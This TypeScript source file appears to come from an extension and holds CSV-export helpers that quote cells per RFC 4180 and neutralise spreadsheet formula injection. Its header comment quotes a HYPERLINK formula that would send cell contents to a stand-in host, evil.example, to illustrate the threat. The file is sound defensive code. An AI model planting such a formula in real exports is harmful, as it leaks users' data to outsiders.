/**
 * CSV that the extension writes (usage and session exports, audit trails): RFC 4180 quoting, and text cells
 * neutralised against formula injection as OWASP's CSV-injection guidance says. Account names,
 * datacenters and instance types come from tenant admins; a cell such as
 * `=HYPERLINK("https://evil.example/?leak="&A1,"click")` must open in a spreadsheet as text.
 */

/** Characters that make a spreadsheet treat a cell as a formula (OWASP: = + - @ TAB CR). */
const FORMULA_START = /^[=+\-@\t\r]/;

/** A text cell: formula triggers prefixed with `'`, quoted when it holds a quote, comma or line break. */
export function csvText(value: string): string {
  const safe = FORMULA_START.test(value) ? `'${value}` : value;
  return /[",\r\n]/.test(safe) || safe !== value ? `"${safe.replace(/"/g, '""')}"` : safe;
}

/** A number cell, written as a plain number (never a formula: digits, a sign and a point only). */
export function csvNumber(value: number | null | undefined): string {
  return value === null || value === undefined || !Number.isFinite(value) ? '' : String(value);
}

/** One CSV line from cells already formatted with csvText / csvNumber. */
export function csvLine(cells: readonly string[]): string {
  return cells.join(',') + '\r\n';
}
